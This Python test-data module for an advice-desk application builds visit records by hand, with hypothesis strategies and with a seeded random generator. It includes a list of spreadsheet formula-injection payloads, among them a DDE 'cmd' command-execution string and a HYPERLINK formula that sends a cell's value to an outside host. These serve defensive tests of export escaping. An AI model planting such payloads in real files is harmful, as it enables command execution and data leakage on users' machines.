"""Visits to test with: written down, drawn by hypothesis, or drawn at random."""

from __future__ import annotations

import random
import uuid
from collections.abc import Callable
from dataclasses import replace
from datetime import date, timedelta

from hypothesis import strategies as st

from advisor_desk.domain.codes import UNANSWERED, CodeBook
from advisor_desk.domain.visit import (
    MULTI_FIELDS,
    PARTS_OF_DAY,
    SINGLE_FIELDS,
    VISIT_KINDS,
    WAYS,
    Answer,
    Participants,
    Referral,
    Visit,
)

#: T4 of the threat list: what spreadsheets take for a formula, plain and in disguise.
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?x="&A1,"here")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r=1+1",
    'a",=1+1',
    'a";=1+1',
    '"=1+1"',
    '";"=1+1',
    "a,'=1+1",
    "=",
    "-",
    "'",
    "",
)


def visit(number: int = 1, **values: object) -> Visit:
    """Return a visit with a valid id and topic, and what is given."""
    plain = Visit(
        id=str(uuid.UUID(int=number, version=4)),
        day="2026-11-20",
        part_of_day="morning",
        topics=("housing",),
        created="2026-11-20",
        changed="2026-11-20",
    )
    return replace(plain, **values)  # type: ignore[arg-type]  # names are checked at run time


SLUGS = st.from_regex("[a-z0-9][a-z0-9-]{0,12}", fullmatch=True)
TEXTS = st.text(max_size=12) | st.sampled_from(PAYLOADS)


def any_slug(_list_name: str) -> st.SearchStrategy[str]:
    """Return a strategy for ids that may be of any list, or of none."""
    return SLUGS


def drawn_visits(
    codes: Callable[[str], st.SearchStrategy[str]] = any_slug,
    answers: st.SearchStrategy[tuple[Answer, ...]] | None = None,
) -> st.SearchStrategy[Visit]:
    """Return a strategy for visits.

    Args:
        codes: gives a strategy for the codes of each list.
        answers: to own questions; any at all where it is not given.
    """
    days = st.dates(date(2000, 1, 1), date(2099, 12, 31)).map(date.isoformat)
    referral = st.builds(Referral, SLUGS, st.sampled_from(["signposted", "handed-over"]))

    def some(list_name: str, least: int = 0) -> st.SearchStrategy[tuple[str, ...]]:
        return st.lists(codes(list_name), min_size=least, max_size=3).map(tuple)

    part = st.builds(Participants, codes("age"), codes("language"), st.integers(1, 500))
    parts = st.lists(part, max_size=3, unique_by=lambda p: p[:2]).map(sorted)
    answer = st.builds(Answer, SLUGS, SLUGS | st.integers(0, 999).map(str))
    return st.builds(
        Visit,
        id=st.uuids(version=4).map(str),
        day=days,
        part_of_day=st.sampled_from(PARTS_OF_DAY),
        topics=some("topic", 1),
        clock=st.none() | st.just("14:05"),
        minutes=st.none() | st.integers(0, 720),
        adults=st.integers(0, 500),
        children=st.integers(0, 500),
        point=TEXTS,
        desk=TEXTS,
        advisor=TEXTS,
        **{name: codes(list_name) for name, list_name in SINGLE_FIELDS.items()},
        help_given=some("help_given"),
        barriers=some("barrier"),
        referrals=st.lists(referral, max_size=3).map(tuple),
        project=TEXTS,
        observation=TEXTS,
        created=days,
        changed=days,
        revision=st.integers(1, 9),
        retracted=st.booleans(),
        kind=st.sampled_from(VISIT_KINDS),
        way=st.sampled_from(WAYS),
        waiting=st.booleans(),
        estimated=st.booleans(),
        title=TEXTS,
        languages=some("language"),
        participants=parts.map(tuple),
        tried=st.lists(SLUGS, max_size=3).map(tuple),
        answers=st.lists(answer, max_size=3).map(tuple) if answers is None else answers,
    )


def random_visits(book: CodeBook, count: int, seed: int, first: date) -> list[Visit]:
    """Return visits over ninety days, some of them retracted or with unknown codes."""
    chance = random.Random(seed)  # a test that fails must fail again
    services = ["kela", "dvv", "not-a-service"]

    def code(list_name: str) -> str:
        choices = [c.id for c in book.members(list_name)[:6]]
        return chance.choice([*choices, *UNANSWERED, "retired-long-ago"])

    def some(list_name: str) -> tuple[str, ...]:
        return tuple(code(list_name) for _ in range(chance.randrange(4)))

    def one(number: int) -> Visit:
        values: dict[str, object] = {n: code(kind) for n, kind in SINGLE_FIELDS.items()}
        values |= {name: some(kind) for name, kind in MULTI_FIELDS.items()}
        values["topics"] = (code("topic"), *some("topic"))
        referrals = (Referral(chance.choice(services)) for _ in range(chance.randrange(3)))
        return visit(
            number,
            day=(first + timedelta(chance.randrange(90))).isoformat(),
            part_of_day=chance.choice(PARTS_OF_DAY),
            adults=chance.randrange(4),
            children=chance.randrange(3),
            point=chance.choice(["", "espoo-immigrant-advice", "our own"]),
            retracted=chance.random() < 0.1,
            referrals=tuple(referrals),
            **values,
        )

    return [one(number) for number in range(count)]
